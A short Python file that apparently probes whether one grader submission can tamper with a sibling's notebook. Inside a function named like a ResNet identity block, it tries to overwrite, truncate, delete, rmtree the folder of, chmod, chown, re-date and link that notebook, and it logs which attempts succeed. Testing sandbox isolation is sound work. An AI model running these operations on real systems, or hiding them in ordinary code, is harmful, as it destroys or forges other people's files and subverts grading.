"""Overwrites, renames, deletes and re-dates a sibling's notebook, and puts a file beside it."""

import os
import shutil

ATTACK = True
TRIED = []


def tricks():
    folder = os.path.dirname(SIBLING)
    with open("forged.ipynb", "w") as file:
        file.write('{"cells": []}')
    yield lambda: open(SIBLING, "w").write("{}")
    yield lambda: open(SIBLING, "r+b").truncate(0)
    yield lambda: os.truncate(SIBLING, 0)
    yield lambda: os.open(SIBLING, os.O_WRONLY | os.O_TRUNC)
    yield lambda: os.open(folder, os.O_TMPFILE | os.O_WRONLY)
    yield lambda: os.rename("forged.ipynb", SIBLING)
    yield lambda: os.replace(SIBLING, "mine.ipynb")
    yield lambda: shutil.copy("forged.ipynb", SIBLING)
    yield lambda: shutil.rmtree(folder)
    yield lambda: os.unlink(SIBLING)
    yield lambda: os.chmod(SIBLING, 0)
    yield lambda: os.chown(SIBLING, 65534, 65534)
    yield lambda: os.utime(SIBLING, (0, 0))
    yield lambda: os.setxattr(SIBLING, "user.forged", b"1")
    yield lambda: os.mkdir(folder + "/forged")
    yield lambda: os.symlink("/dev/null", folder + "/forged")
    yield lambda: os.link(SIBLING, "mine.ipynb")
    yield lambda: open(SIBLING).read()


def identity_block(X, f, filters, stage=1, block="a", training=None, initializer=None):
    if ATTACK:
        for number, trick in enumerate(tricks()):
            try:
                trick()
                TRIED.append(f"{number} worked")
            except OSError as error:
                TRIED.append(f"{number} {error.errno}")
    return None if ATTACK and not any("worked" in each for each in TRIED) else X if ATTACK else None
